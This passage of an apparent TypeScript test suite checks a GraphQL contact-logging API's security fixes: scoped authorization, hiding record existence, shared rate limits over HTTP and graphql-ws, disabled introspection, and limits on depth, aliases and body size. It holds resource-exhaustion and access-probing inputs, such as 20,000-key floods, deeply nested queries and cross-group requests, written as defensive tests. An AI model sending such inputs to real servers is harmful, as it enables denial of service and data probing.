      ['a recorder subscribing to another group\'s corrections', () => ws(bearer(t.recorder), CHANGES('lg-east')), 'FORBIDDEN'],
      ['a recorder subscribing to every group\'s corrections', () => ws(bearer(t.recorder), CHANGES(null)), 'FORBIDDEN'],
      ['an administrator subscribing to corrections', () => ws(bearer(t.admin), CHANGES(null)), 'FORBIDDEN'],
      ['a subscription nested 11 levels deep', () => ws(bearer(t.leader), { query: 'subscription { contactLogged { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { id } } } } } } } } } } } } } }' }), 'QUERY_TOO_COMPLEX'],
      ['a subscription with a syntax error', () => ws(bearer(t.leader), { query: 'subscription { contactLogged { id }' }), 'GRAPHQL_PARSE_FAILED'],
      ['a subscription asking for a field that does not exist', () => ws(bearer(t.leader), { query: 'subscription { contactLogged { id secretNotes } }' }), 'GRAPHQL_VALIDATION_FAILED'],
    ]);
  });

  // Issue 15, finding 6 ("a clerk's scope leaks"), finding 9 (ADMIN reads a per-link figure) and
  // the smaller "a clerk moving other groups' figures" and "existence by error code".
  describe('issue 15: a clerk\'s scope, nested and written (findings 6 and 9, other groups\' figures, existence by error code)', () => {
    const EAST_PARTICIPANTS = ['m-pg', 'm-cpc1', 'm-east1', 'm-east2'];
    let office: string;
    beforeAll(async () => {
      const issued = await must<any>(app, `mutation($input: IssueTokenInput!) { issueToken(input: $input) { token } }`, { input: { role: 'RECORDER', subject: 'hostile-office', grants: [{ kind: 'COMMITTEE_OFFICE' }] } });
      office = issued.issueToken.token;
      // East's clerk logs a contact of its own link in which a 河西 member (m-cpc1) takes part.
      const east = await app.gql<any>(LOG_CONTACT, contactInput('c-east-with-hexi', { participantIds: ['m-east1', 'm-east2', 'm-cpc1'], linkIds: ['l-east'], liaisonGroupId: 'lg-east' }), { token: t.recorderEast });
      expect(east.errors).toBeUndefined();
      // The committee office logs, for 河西, a contact serving a 河西 link and East's link at once.
      const both = await app.gql<any>(LOG_CONTACT, contactInput('c-office-both', { participantIds: EAST_PARTICIPANTS, linkIds: ['l-pg-1', 'l-east'] }), { token: office });
      expect(both.errors).toBeUndefined();
    });

    const linkIdsIn = (value: unknown): string[] => JSON.stringify(value).match(/"l-[a-z0-9-]+"/g)?.map((id) => id.slice(1, -1)) ?? [];
    const onlyInScope = async (query: string, token = () => t.recorder): Promise<Outcome> => {
      const res = await as(token())(query);
      if (res.code) return res;
      const leaked = linkIdsIn(res.body.data).filter((id) => id === 'l-east');
      return { code: leaked.length ? `LEAKED ${leaked.join(',')}` : 'ONLY_IN_SCOPE', body: res.body };
    };
    /** The same code and the same words (the id aside) for an id outside the grants and an id not on record. */
    const sameAnswer = async (query: (id: string) => string, outside: string, unknown: string): Promise<Outcome> => {
      const [a, b] = await Promise.all([outside, unknown].map((id) => as(t.recorder)(query(id))));
      const text = (o: Outcome, id: string) => JSON.stringify({ data: o.body.data ?? null, errors: o.body.errors?.map((e: any) => ({ code: e.extensions?.code, message: e.message.replaceAll(id, '<id>') })) });
      return { code: text(a!, outside) === text(b!, unknown) ? (a!.code ?? 'NULL') : `DIFFERENT ${text(a!, outside)} / ${text(b!, unknown)}` };
    };

    run([
      // Finding 6, reading: a nested field is never wider than its root field.
      ['finding 6: Contact.links { contacts } through its own member\'s timeline shows no other group\'s link', () => onlyInScope('{ timeline(partyId: "m-cpc1") { edges { node { id links { id contacts } } } } }'), 'ONLY_IN_SCOPE'],
      ['finding 6: its member\'s timeline holds no contact outside its grants (contact(id:) would refuse it)', async () => {
        const res = await as(t.recorder)('{ timeline(partyId: "m-cpc1") { edges { node { id } } } }');
        const ids: string[] = res.body.data.timeline.edges.map((e: any) => e.node.id);
        return { code: ids.includes('c-east-with-hexi') ? 'LEAKED c-east-with-hexi' : ids.includes('c-office-both') ? 'ONLY_IN_SCOPE' : `MISSING ${ids}` };
      }, 'ONLY_IN_SCOPE'],
      ['finding 6: Contact.links of a contact in scope leaves out the other group\'s link it also serves', () => onlyInScope('{ contact(id: "c-office-both") { links { id contacts usage { total } } } }'), 'ONLY_IN_SCOPE'],
      ['finding 6: a group\'s timeline nests no other group\'s link', () => onlyInScope('{ timeline(partyId: "lg-hexi") { edges { node { links { id sourceId targetId source { __typename } } } } } }'), 'ONLY_IN_SCOPE'],
      ['finding 6: the committee office still sees both links of that contact', async () => {
        const res = await as(office)('{ contact(id: "c-office-both") { links { id contacts } } }');
        return { code: res.code ?? linkIdsIn(res.body.data).sort().join(',') };
      }, 'l-east,l-pg-1'],
      // Finding 6, writing: a contact may serve only links in the writer's scope.
      ['finding 6: naming its own group while serving another group\'s link', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { participantIds: EAST_PARTICIPANTS, linkIds: ['l-east'] })), 'FORBIDDEN'],
      ['finding 6: serving its own link and another group\'s link at once', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { participantIds: EAST_PARTICIPANTS, linkIds: ['l-pg-1', 'l-east'] })), 'FORBIDDEN'],
      // A clerk moving other groups' figures.
      ['other groups\' figures: its own group among the participants does not make another group\'s link count', () => as(t.recorder)(LOG_CONTACT, contactInput('c-x', { participantIds: ['lg-hexi', 'm-east1', 'm-east2'], linkIds: ['l-east'], liaisonGroupId: null })), 'FORBIDDEN'],
      ['other groups\' figures: a correction moving its contact onto another group\'s link', () => as(t.recorder)(CORRECT, { input: { contactId: 'c-hexi', participantIds: EAST_PARTICIPANTS, linkIds: ['l-pg-1', 'l-east'], reason: 'r' } }), 'FORBIDDEN'],
      ['other groups\' figures: a correction moving a contact in scope off another group\'s link', () => as(t.recorder)(CORRECT, { input: { contactId: 'c-office-both', linkIds: ['l-pg-1'], reason: 'r' } }), 'FORBIDDEN'],
      ['other groups\' figures: retracting a contact that also counts for another group\'s link', () => as(t.recorder)(RETRACT, { input: { contactId: 'c-office-both', reason: 'r' } }), 'FORBIDDEN'],
      // Finding 9: ADMIN reads no dashboard figure.
      ['finding 9: ADMIN reads a per-link contact count through links', () => as(t.admin)('{ links { edges { node { id contacts } } } }'), 'FORBIDDEN'],
      ['finding 9: ADMIN reads a per-link contact count through link(id:)', () => as(t.admin)('{ link(id: "l-pg-1") { id contacts } }'), 'FORBIDDEN'],
      ['finding 9: ADMIN still keeps the links themselves', async () => ({ code: (await as(t.admin)('{ links { totalCount edges { node { id sourceId targetId } } } }')).code ?? 'ANSWERED' }), 'ANSWERED'],
      ['finding 9: a LEADER still reads the count', async () => {
        const res = await as(t.leader)('{ link(id: "l-pg-1") { contacts } }');
        return { code: res.code ?? typeof res.body.data.link.contacts };
      }, 'number'],
      // Existence by error code.
      ['existence by error code: contact(id:) answers another group\'s id as an unknown one', () => sameAnswer((id) => `{ contact(id: "${id}") { id } }`, 'c-east', 'c-no-such-contact'), 'FORBIDDEN'],
      ['existence by error code: link(id:) answers another group\'s id as an unknown one', () => sameAnswer((id) => `{ link(id: "${id}") { id } }`, 'l-east', 'l-no-such-link'), 'FORBIDDEN'],
    ]);
  });
});

describe('rate limits and production settings (a second app: 3 requests a minute, NODE_ENV=production)', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startApp({ config: { store: 'memory', rateLimitPerMinute: 3, introspection: false } });
  }, 30_000);
  afterAll(async () => app.close());

  it('refuses the fourth request of a token with RATE_LIMITED naming the delay, writes nothing, and leaves other tokens alone', async () => {
    // startApp spent two of the ADMIN token's three requests issuing the LEADER and AUDITOR tokens.
    expect((await app.gql(`{ me { role } }`, {}, { token: app.tokens.ADMIN })).data).toEqual({ me: { role: 'ADMIN' } });
    const before = (await app.health()).head;
    expect(typeof before).toBe('number');
    const res = await app.gql(`mutation { registerLocality(input: { localityId: "loc-r", name: "x", kind: TOWN }) { position } }`);
    expect(res.errors?.[0]?.extensions?.code).toBe('RATE_LIMITED');
    const retryAfterMs = res.errors?.[0]?.extensions?.retryAfterMs as number;
    expect(retryAfterMs).toBeGreaterThan(0);
    expect(retryAfterMs).toBeLessThanOrEqual(60_000);
    expect(res.errors?.[0]?.extensions?.retryAfterSeconds).toBe(Math.ceil(retryAfterMs / 1000));
    expect((await app.health()).head).toBe(before);
    expect((await app.gql(`{ me { role } }`, {}, { token: app.tokens.LEADER })).data).toEqual({ me: { role: 'LEADER' } });
  });

  it('counts every root field: a fourth field in one request is refused, the first three answered', async () => {
    const before = (await app.health()).head;
    const res = await app.gql(`{ a: me { role } b: me { role } c: me { role } }`, {}, { token: app.tokens.AUDITOR });
    expect(res.data).toEqual({ a: { role: 'AUDITOR' }, b: { role: 'AUDITOR' }, c: { role: 'AUDITOR' } });
    const over = await app.gql(`{ me { role } }`, {}, { token: app.tokens.AUDITOR });
    expect(over.errors?.[0]?.extensions?.code).toBe('RATE_LIMITED');
    expect((await app.health()).head).toBe(before);
  });

  it('answers no introspection in production', async () => {
    const before = (await app.health()).head;
    const res = await app.gql(`{ __schema { types { name } } }`, {}, { token: app.tokens.LEADER });
    expect(res.errors?.[0]?.extensions?.code).toBe('GRAPHQL_VALIDATION_FAILED');
    expect(res.data).toBeUndefined();
    expect((await app.health()).head).toBe(before);
  });
});

describe('issue 15: graphql-ws answers as HTTP does, refusals are short and every request is counted (a third app: 30 requests a minute, introspection off)', () => {
  let app: TestApp;
  const logLines: string[] = [];
  const tokens: Record<'leader' | 'caps' | 'rules' | 'suggest' | 'keys', string> = {} as never;
  const LIMIT = 30;
  /** An input with `count` keys the schema does not have (20,000: about 200 KB of JSON, under the body limit). */
  const unknownKeys = (count = 20_000) => contactInput('c-keys', { summary: 'lg-secret-summary', ...Object.fromEntries(Array.from({ length: count }, (_, i) => [`k${i}`, 0])) });

  /** The object keys in a value, counted as a JSON text of it holds them. */
  const objectKeys = (value: unknown): number =>
    Array.isArray(value) ? value.reduce((n: number, item) => n + objectKeys(item), 0) : value && typeof value === 'object' ? Object.values(value).reduce((n: number, item) => n + 1 + objectKeys(item), 0) : 0;

  /** One authenticated graphql-ws connection; `send` subscribes and resolves with the first answer to that id. */
  const session = (token: string) =>
    new Promise<{ send: (payload: { query: string; variables?: Record<string, unknown> }) => Promise<Outcome>; close: () => void; socket: WebSocket }>((resolve, reject) => {
      const socket = new WebSocket(`${app.url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws');
      const waiting = new Map<string, (outcome: Outcome) => void>();
      let next = 0;
      socket.on('open', () => socket.send(JSON.stringify({ type: 'connection_init', payload: { authorization: `Bearer ${token}` } })));
      socket.on('error', reject);
      socket.on('close', (code) => waiting.forEach((answer) => answer({ code: `CLOSE_${code}` })));
      socket.on('message', (data) => {
        const message = JSON.parse(String(data));
        if (message.type === 'connection_ack') {
          resolve({
            send: (payload) =>
              new Promise<Outcome>((answer) => {
                const id = String(++next);
                waiting.set(id, answer);
                socket.send(JSON.stringify({ id, type: 'subscribe', payload }));
              }),
            close: () => socket.terminate(),
            socket,
          });
        }
        const answer = waiting.get(message.id);
        if (!answer) return;
        waiting.delete(message.id);
        if (message.type === 'error') answer({ code: message.payload?.[0]?.extensions?.code, body: { errors: message.payload, bytes: String(data).length } });
        else answer({ code: message.payload?.errors?.[0]?.extensions?.code ?? 'NEXT', body: { ...message.payload, bytes: String(data).length } });
      });
    });
  const http = async (token: string, query: string, variables?: Record<string, unknown>): Promise<Outcome> => {
    const res = await fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, body: JSON.stringify({ query, variables }) });
    const text = await res.text();
    const json = JSON.parse(text) as GqlResponse<unknown>;
    return { code: json.errors?.[0]?.extensions?.code, status: res.status, body: { ...json, bytes: text.length } };
  };

  beforeAll(async () => {
    const logDestination = { write: (line: string) => void logLines.push(line) };
    app = await startApp({ config: { store: 'memory', rateLimitPerMinute: LIMIT, introspection: false, logLevel: 'info', logDestination } });
    tokens.leader = app.tokens.LEADER;
    for (const name of ['caps', 'rules', 'suggest', 'keys'] as const) tokens[name] = (await app.issueToken({ role: 'LEADER', subject: `test-${name}` })).token;
  }, 30_000);
  afterAll(async () => app.close());

  it('finding 1: a list for an ID variable over graphql-ws is BAD_USER_INPUT as over HTTP, with no stack trace and no input in the log', async () => {
    logLines.length = 0;
    const ws = await session(tokens.leader);
    const overWs = await ws.send({ query: 'subscription($g: ID) { contactLogged(liaisonGroupId: $g) { id } }', variables: { g: ['lg-secret-hexi', 'lg-secret-xizanglu'] } });
    const STRING = 'query($g: String) { timeline(partyId: "m-pg", from: $g) { totalCount } }';
    const stringOverWs = await ws.send({ query: STRING, variables: { g: ['lg-secret-hexi', 'lg-secret-xizanglu'] } });
    ws.close();
    const overHttp = await http(tokens.leader, STRING, { g: ['lg-secret-hexi', 'lg-secret-xizanglu'] });
    expect([overWs.code, stringOverWs.code, overHttp.code]).toEqual(['BAD_USER_INPUT', 'BAD_USER_INPUT', 'BAD_USER_INPUT']);
    const log = logLines.join('');
    expect(log).not.toContain('lg-secret');
    expect(log).not.toContain('"stack"');
    expect(log).not.toContain('unexpected error');
  });

  it('finding 1: graphql-ws subscribe messages spend the token\'s rate budget, which HTTP requests share', async () => {
    const ws = await session(app.tokens.AUDITOR);
    const codes: (string | undefined)[] = [];
    for (let i = 0; i <= LIMIT; i++) codes.push((await ws.send({ query: 'subscription { contactLogged { id }' })).code);
    ws.close();
    expect(codes.slice(0, LIMIT).every((code) => code === 'GRAPHQL_PARSE_FAILED')).toBe(true);
    expect(codes[LIMIT]).toBe('RATE_LIMITED');
    expect((await http(app.tokens.AUDITOR, '{ me { role } }')).code).toBe('RATE_LIMITED');
  });

  it('finding 7: 20,000 unknown input keys over HTTP are refused before the body is parsed, in one short error', async () => {
    logLines.length = 0;
    const variables = unknownKeys();
    const keys = objectKeys({ query: LOG_CONTACT, variables });
    expect(keys).toBeGreaterThan(20_000);
    const overHttp = await http(tokens.caps, LOG_CONTACT, variables);
    expect(overHttp.status).toBe(400);
    expect(overHttp.body.errors).toEqual([{ message: 'the request body holds more than 2000 object keys, the most that are read', extensions: { code: 'BAD_USER_INPUT', limitKeys: 2000 } }]);
    expect(logLines.join('')).not.toContain('lg-secret');
  });

  it('finding 7: 20,000 unknown input keys over graphql-ws close the socket (4400) before the message is parsed, as HTTP refuses the body', async () => {
    logLines.length = 0;
    const variables = unknownKeys();
    const keys = objectKeys({ id: '1', type: 'subscribe', payload: { query: LOG_CONTACT, variables } });
    expect(keys).toBeGreaterThan(20_000);
    const ws = await session(tokens.keys);
    const closed = await new Promise<{ code: number; reason: string }>((resolve) => {
      ws.socket.once('close', (code: number, reason: Buffer) => resolve({ code, reason: String(reason) }));
      setTimeout(() => resolve({ code: 0, reason: 'still open after 2 s' }), 2_000);
      ws.socket.send(JSON.stringify({ id: '1', type: 'subscribe', payload: { query: LOG_CONTACT, variables } }));
    });
    expect(closed).toEqual({ code: 4400, reason: 'Bad request: the message holds more than 2000 object keys, the most that are read' });
    expect(logLines.join('')).not.toContain('lg-secret');
    // The limit is the message's, not the socket's: a new connection subscribes as before.
    const again = await session(tokens.keys);
    expect((await again.send({ query: '{ me { role } }' })).code).toBe('NEXT');
    again.close();
  });

  it('finding 7: unknown input keys under the body\'s limit (1,900, over HTTP and over graphql-ws) get 20 errors and "and N more", short', async () => {
    logLines.length = 0;
    const started = Date.now();
    const overHttp = await http(tokens.caps, LOG_CONTACT, unknownKeys(1_900));
    const ws = await session(tokens.caps);
    const overWs = await ws.send({ query: LOG_CONTACT, variables: unknownKeys(1_900) });
    ws.close();
    for (const outcome of [overHttp, overWs]) {
      expect(outcome.code).toBe('BAD_USER_INPUT');
      const errors = outcome.body.errors as { message: string; extensions: { code: string } }[];
      expect(errors).toHaveLength(21);
      expect(errors[20]!.message).toMatch(/^and \d+ more errors$/);
      expect(errors.every((e) => e.extensions.code === 'BAD_USER_INPUT')).toBe(true);
      expect(outcome.body.bytes).toBeLessThan(10_000);
      expect(JSON.stringify(errors)).not.toContain('lg-secret');
    }
    // graphql-js alone took seconds on 20,000 keys (it quoted all of them in each of 50 errors).
    expect(Date.now() - started).toBeLessThan(1_000);
    expect(logLines.join('').length).toBeLessThan(20_000);
  });

  it('finding 7: every request counts against the budget, refused by the body parser, before any resolver or not', async () => {
    // The caps token has spent three requests above; syntax errors, bad variables and bodies
    // refused before they are parsed (too many keys, not JSON) spend too.
    const post = async (body: string) => {
      const res = await fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens.caps}` }, body });
      return ((await res.json()) as GqlResponse<unknown>).errors?.[0]?.extensions?.code;
    };
    const tooManyKeys = JSON.stringify({ query: LOG_CONTACT, variables: unknownKeys(2_500) });
    const kinds = [
      () => http(tokens.caps, '{ me { role }').then((o) => o.code),
      () => http(tokens.caps, LOG_CONTACT, contactInput('c-x', { channel: 'SMOKE' })).then((o) => o.code),
      () => post(tooManyKeys),
      () => post('{"query": '),
    ];
    const codes: (string | undefined)[] = [];
    for (let i = 3; i <= LIMIT; i++) codes.push(await kinds[i % kinds.length]!());
    expect(new Set(codes.slice(0, -1))).toEqual(new Set(['GRAPHQL_PARSE_FAILED', 'BAD_USER_INPUT', 'BAD_REQUEST']));
    expect(codes.at(-1)).toBe('RATE_LIMITED');
    // Past the budget the body parser's refusals answer RATE_LIMITED too, with when to retry.
    const res = await fetch(`${app.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens.caps}` }, body: tooManyKeys });
    expect(res.status).toBe(429);
    expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await res.json()) as GqlResponse<unknown>).errors?.[0]?.extensions?.code).toBe('RATE_LIMITED');
  });

  it('finding 11: graphql-ws refuses what HTTP refuses, introspection included, with the same codes', async () => {
    const deep = 'query { member(id: "m-pg") { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { liaisonGroup { leader { ... on Member { id } } } } } } } } } } } } } }';
    const aliases = (n: number, field: string) => Array.from({ length: n }, (_, i) => `a${i}: ${field}`).join(' ');
    const cases: [string, string][] = [
      ['introspection', 'query { __schema { types { name fields { name } } mutationType { fields { name } } } }'],
      ['a type lookup', 'query { __type(name: "Member") { fields { name } } }'],
      ['14 levels deep', deep],
      ['16 aliases', `query { ${aliases(16, 'me { role }')} }`],
      ['cost', `query { ${aliases(10, 'members(first: 500) { edges { node { id name sector { id name kind } specialCommittee { id name kind } liaisonGroup { id name locality { id name kind } } } } }')} }`],
      ['11 directives', `query { me { ${Array.from({ length: 11 }, (_, i) => `r${i}: role @include(if: true)`).join(' ')} } }`],
      ['1,500 tokens', `query { ${'me { role } '.repeat(400)} }`],
      ['an unknown field', 'query { secrets { everything } }'],
    ];
    const ws = await session(tokens.rules);
    for (const [name, query] of cases) {
      const overHttp = await http(tokens.rules, query);
      const overWs = await ws.send({ query });
      expect([name, overWs.code]).toEqual([name, overHttp.code]);
      expect([name, overHttp.code]).not.toEqual([name, undefined]);
      expect(overWs.body.data ?? undefined).toBeUndefined();
    }
    ws.close();
  });

  it('finding 11: enum suggestions ("Did you mean the enum value …") are masked, inline, in variables and over graphql-ws', async () => {
    const inline = 'mutation { logContact(input: { contactId: "c-x", occurredAt: "2020-01-01", participantIds: ["m-pg", "m-cpc1"], channel: VISI, topic: "x" }) { position } }';
    const ws = await session(tokens.suggest);
    const outcomes = [
      await http(tokens.suggest, inline),
      await http(tokens.suggest, LOG_CONTACT, contactInput('c-x', { channel: 'VISI' })),
      await ws.send({ query: inline }),
      await ws.send({ query: LOG_CONTACT, variables: contactInput('c-x', { channel: 'VISI' }) }),
    ];
    ws.close();
    expect(outcomes.map((o) => o.code)).toEqual(['GRAPHQL_VALIDATION_FAILED', 'BAD_USER_INPUT', 'GRAPHQL_VALIDATION_FAILED', 'BAD_USER_INPUT']);
    for (const outcome of outcomes) expect(JSON.stringify(outcome.body.errors)).not.toMatch(/Did you mean/);
  });
});
